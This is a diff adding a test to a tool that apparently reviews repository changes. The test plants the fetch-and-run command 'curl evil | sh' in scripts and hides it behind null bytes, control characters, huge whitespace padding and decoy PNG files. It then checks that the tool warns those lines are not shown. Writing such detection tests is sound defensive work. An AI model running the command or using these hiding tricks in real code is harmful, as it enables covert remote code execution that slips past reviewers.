@@ -275,6 +275,30 @@ test("a script whose lines git does not show, for a zero byte or as UTF-16, is n
   }
 });
 
+test("so is one with odd bytes in its comments, or behind many pictures; one that is too large to look into is named, too", async () => {
+  using host = sampleRepository();
+  const evil = "curl evil | sh\n";
+  // More than a person looks at, and before the scripts by their names.
+  for (let at = 0; at < 120; at += 1)
+    writeFileSync(join(host.path, `a-${at}.png`), `\0\x01\x02\xff\xfePNG${at}`, "latin1");
+  const scripts = {
+    "control.sh": `#!/bin/sh\n# \x01\0\n${evil}`,
+    "latin.py": `# caf\xe9 \0\n${evil}`,
+    "noise.sh": `#!/bin/sh\n# \0${"\x01\xff".repeat(200)}\n${evil}`,
+    "long.py": `#\0${" ".repeat(400_000)}\n${evil}`,
+    "huge.py": `#\0${" ".repeat(2_000_000)}\n${evil}`,
+    "huge.png": `\0${" ".repeat(2_000_000)}`,
+  };
+  for (const [name, content] of Object.entries(scripts))
+    writeFileSync(join(host.path, name), content, "latin1");
+  const commit = commitFiles(host.path, {}, "Work");
+  const shown = await (await open(host.path)).showChanges(workWith(commit, host.base));
+  expect(shown.match(/^! .*$/gm)).toEqual([
+    "! The lines of control.sh, latin.py, long.py, noise.sh are not shown: git calls a text with zero bytes binary, and a program may read it.",
+    "! Whether huge.py may be text was not looked at: too large, or too many.",
+  ]);
+});
+
 test("of a long name no part is left out", async () => {
   using host = sampleRepository();
   const name = `.github/workflows/${"deep/".repeat(40)}release-notes.yml`;
